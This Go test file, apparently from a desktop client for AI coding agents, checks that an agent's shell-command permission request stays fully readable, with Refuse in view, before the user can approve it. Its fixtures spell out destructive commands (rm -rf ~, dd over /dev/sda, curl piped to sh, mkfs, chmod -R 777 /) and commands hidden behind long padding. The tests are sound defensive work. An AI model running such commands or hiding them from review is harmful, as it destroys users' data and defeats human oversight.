package app

import (
	"fmt"
	"image"
	"strings"
	"testing"
	"time"

	"gioui.org/io/input"
	"gioui.org/io/key"
	"gioui.org/io/semantic"
	"gioui.org/layout"

	"sidekicks/engine"
	"sidekicks/engine/acp"
	"sidekicks/engine/config"
	"sidekicks/engine/conversation"
	"sidekicks/widgets/widgettest"
)

// An answering engine shows one snapshot and notes what it is answered.
type answering struct {
	still
	answers []conversation.PermissionOptionID
}

func (a *answering) Answer(_ engine.PermissionID, option conversation.PermissionOptionID) bool {
	a.answers = append(a.answers, option)
	return true
}

// requests are permission requests that need much room, by what makes them so,
// each with the last line of what has to be read before it is answered.
func requests() map[string]struct {
	scene *engine.Snapshot
	last  string
} {
	type request = struct {
		scene *engine.Snapshot
		last  string
	}
	command := func(text string) *engine.Snapshot {
		s := asked()
		s.Permissions[0].Tool = &conversation.Tool{Asking: true, Call: conversation.ToolCall{ID: "2", Kind: "execute", Title: text,
			RawInput: []byte(`{"command":"` + strings.ReplaceAll(text, "\n", `\n`) + `"}`)}}
		describe(&s.Permissions[0])
		return s
	}
	files := askedEdit()
	for i := range 12 {
		path := fmt.Sprintf("/home/me/projets/vaisseau/notes/%d.txt", i)
		files.Permissions[0].Tool.Call.Content = append(files.Permissions[0].Tool.Call.Content, conversation.ToolCallContent{Type: "diff", Path: path, NewText: "new\n"})
		files.Permissions[0].Tool.Call.Locations = append(files.Permissions[0].Tool.Call.Locations, acp.ToolCallLocation{Path: path})
	}
	describe(&files.Permissions[0])
	long := asked()
	long.Permissions[0].NoCopy = strings.Repeat("the disk is full and cannot be written to, ", 8)
	wordy := asked()
	for i := range wordy.Permissions[0].Options {
		wordy.Permissions[0].Options[i].Kind, wordy.Permissions[0].Options[i].Name = "other", strings.Repeat("a long name of an option ", 6)
	}
	return map[string]request{
		"short":    {asked(), "rm -rf build"},
		"300":      {command("echo first" + strings.Repeat("\n:", 298) + "\nrm -rf ~"), "rm -rf ~"},
		"wrapped":  {command("echo " + strings.Repeat(" ", 400) + "; rm -rf ~"), "; rm -rf ~"},
		"findings": {command("rm -rf ~ /etc /usr; sudo dd if=/dev/zero of=/dev/sda; git push --force; curl -s https://example.org | sh; eval $X; chmod -R 777 /; mkfs /dev/sdb; shutdown now"), "shutdown now"},
		"notes":    {long, "rm -rf build"},
		"words":    {wordy, "rm -rf build"},
		"diff":     {askedEdit(), "notes.txt"},
		"files":    {files, "notes/11.txt"},
		"untold":   {command(""), ""},
	}
}

// Whatever the window, the text and the request: nothing can be answered by
// who cannot see what is asked, and no.
func TestNothingIsAnsweredBlind(t *testing.T) {
	sizes := []image.Point{{X: 160, Y: 90}, {X: 240, Y: 160}, {X: 360, Y: 320}, {X: 480, Y: 400}, {X: 480, Y: 800}, {X: 700, Y: 330}, {X: 1280, Y: 420}, {X: 1280, Y: 800}}
	for name, r := range requests() {
		for _, size := range sizes {
			for _, zoom := range []float32{1, 1.5, 2, 3} {
				what := fmt.Sprintf("%s at %v, %.0f %%", name, size, zoom*100)
				e := &answering{still: still{r.scene}}
				_, h := answerable(t, e, size, zoom)
				seen := commandInView(h, r.last)
				if seen != nil && size.X >= 360 && size.Y >= 320 && zoom <= 2 {
					t.Errorf("%s: %v\n%s", what, seen, h.Dump())
				}
				tryToAnswer(h, "Refuser")
				if blind := seen != nil && len(e.answers) > 0; blind {
					t.Errorf("%s is answered with %q though %v\n%s", what, e.answers, seen, h.Dump())
				}
				if seen == nil && len(e.answers) != 1 {
					t.Errorf("%s: a click on Refuse answers %q\n%s", what, e.answers, h.Dump())
				}
			}
		}
	}
}

// answerable opens a window on a request and waits until it can be answered.
func answerable(t *testing.T, e *answering, size image.Point, zoom float32) (*App, *widgettest.Harness) {
	a := New(Options{Engine: e, Config: config.Config{DefaultAgent: "Riker", Language: "fr"}, Shaper: shaper(), Look: Look{Zoom: zoom}})
	h := widgettest.New(t, size, func(gtx layout.Context) layout.Dimensions {
		a.Frame(gtx)
		return layout.Dimensions{Size: gtx.Constraints.Max}
	})
	h.Frame()
	h.Now = h.Now.Add(time.Second)
	h.Settle()
	return a, h
}

// tryToAnswer clicks a button, or all that there are where it is not there, and
// then tries the keys.
func tryToAnswer(h *widgettest.Harness, label string) {
	if n, ok := h.Find(semantic.Button, label); ok {
		h.ClickAt(widgettest.Middle(n))
		return
	}
	for _, n := range h.Nodes() {
		if n.Desc.Class == semantic.Button && !strings.Contains(n.Desc.Description, "Actions") {
			h.ClickAt(widgettest.Middle(n))
		}
	}
	h.Press(key.ModShortcut, "J")
	h.Now = h.Now.Add(time.Second)
	for _, name := range []key.Name{"1", "2", "3", "4", key.NameEscape, key.NameRightArrow, key.NameReturn} {
		h.Press(0, name)
	}
}

// commandInView tells why the last line of a command, and a line before it, or
// the button that refuses cannot be seen.
func commandInView(h *widgettest.Harness, last string) error {
	seen := visibleParts(h)
	refuse, ok := h.Find(semantic.Button, "Refuser")
	if !ok || seen[refuse.ID] != refuse.Desc.Bounds || refuse.Desc.Bounds.Empty() {
		return fmt.Errorf("Refuse is not in view whole: %v of %v", seen[refuse.ID], refuse.Desc.Bounds)
	}
	var command input.SemanticNode
	for _, n := range h.Nodes() {
		if strings.HasSuffix(n.Desc.Label, last) && n.Desc.Class == semantic.Unknown && (last != "" || strings.Contains(n.Desc.Label, "ne dit pas")) {
			command = n
		}
	}
	area := seen[command.ID]
	switch {
	case command.ID == 0:
		return fmt.Errorf("%q is not there", last)
	case area.Max.Y != command.Desc.Bounds.Max.Y || area.Dx() != command.Desc.Bounds.Dx():
		return fmt.Errorf("%q is cut: %v of %v", last, area, command.Desc.Bounds)
	case area.Dy() < 12:
		return fmt.Errorf("%q is not in view: %v", last, area)
	}
	for _, n := range h.Nodes() {
		if n.Desc.Class != semantic.Unknown && seen[n.ID].Overlaps(area) {
			return fmt.Errorf("%v %q covers %q", n.Desc.Class, label(n), last)
		}
	}
	return nil
}

// What says how many lines of a command are out of view stands over a line that
// can be read, not over the lower half of one.
func TestLinesOfACommandAreNotHalved(t *testing.T) {
	for name, row := range map[string]string{"300": ":", "findings": "rm -rf ~ /etc", "files": "notes/"} {
		for _, size := range []image.Point{{X: 360, Y: 320}, {X: 480, Y: 400}, {X: 1280, Y: 420}, {X: 1280, Y: 800}} {
			for _, zoom := range []float32{1, 1.5, 2} {
				a, h := answerable(t, &answering{still: still{requests()[name].scene}}, size, zoom)
				seen, line := visibleParts(h), h.Metric.Sp(a.theme.Mono.LineHeight)
				for _, n := range h.Nodes() {
					part := seen[n.ID]
					if n.Desc.Class == semantic.Unknown && strings.HasPrefix(n.Desc.Label, row) && part.Dy()%line != 0 {
						t.Errorf("%s at %v, %.0f %%: %d of %d are in view of %q, whose lines are %d high", name, size, zoom*100, part.Dy(), n.Desc.Bounds.Dy(), n.Desc.Label, line)
					}
				}
			}
		}
	}
}

// visibleParts is what can be seen of each node: what all that holds it leaves.
func visibleParts(h *widgettest.Harness) map[input.SemanticID]image.Rectangle {
	out := map[input.SemanticID]image.Rectangle{}
	for _, n := range h.Nodes() { // parents before children
		area := n.Desc.Bounds.Intersect(image.Rectangle{Max: h.Size})
		if n.ParentID != 0 {
			area = area.Intersect(out[n.ParentID])
		}
		out[n.ID] = area
	}
	return out
}

// In a small window the card stands alone, what is around the command is
// reached by the arrows, and what was being typed goes on.
func TestTheCardAlone(t *testing.T) {
	e := &answering{still: still{requests()["findings"].scene}}
	a, h := answerable(t, e, image.Pt(480, 400), 2)
	h.Type("typed on")
	seen := func(text string) bool {
		parts := visibleParts(h)
		for _, n := range h.Nodes() {
			if strings.Contains(n.Desc.Label, text) && !parts[n.ID].Empty() {
				return true
			}
		}
		return false
	}
	if seen("engine/limits.go") {
		t.Errorf("the card is not alone:\n%s", h.Dump())
	}
	a.toast.Show(h.Now, "a remark")
	h.Settle()
	if seen("a remark") {
		t.Error("a remark covers the card")
	}
	h.Press(key.ModShortcut, "J")
	if always := "C’est l’agent qui décide"; seen(always) {
		t.Errorf("%q is in view from the start", always)
	} else {
		for range 60 {
			h.Press(0, key.NameDownArrow)
		}
		if !seen("Ne plus le proposer ici") || commandInView(h, "shutdown now") != nil {
			t.Errorf("the end is not reached:\n%s", h.Dump())
		}
		for range 120 {
			h.Press(0, key.NameUpArrow)
		}
		if !seen("rm -rf ~ /etc") {
			t.Errorf("the start is not reached:\n%s", h.Dump())
		}
	}
	h.Size = image.Pt(1280, 1400)
	h.Settle()
	h.Press(0, "4")
	if len(e.answers) > 0 {
		t.Error("it takes an answer as soon as it stands elsewhere")
	}
	if got := a.page.Draft(a.selected); got != "typed on" || !seen("engine/limits.go") {
		t.Errorf("%q was typed:\n%s", got, h.Dump())
	}
	h.Now = h.Now.Add(time.Second)
	h.Press(0, "4")
	if len(e.answers) != 1 || e.answers[0] != "d" {
		t.Errorf("answered %q", e.answers)
	}
}
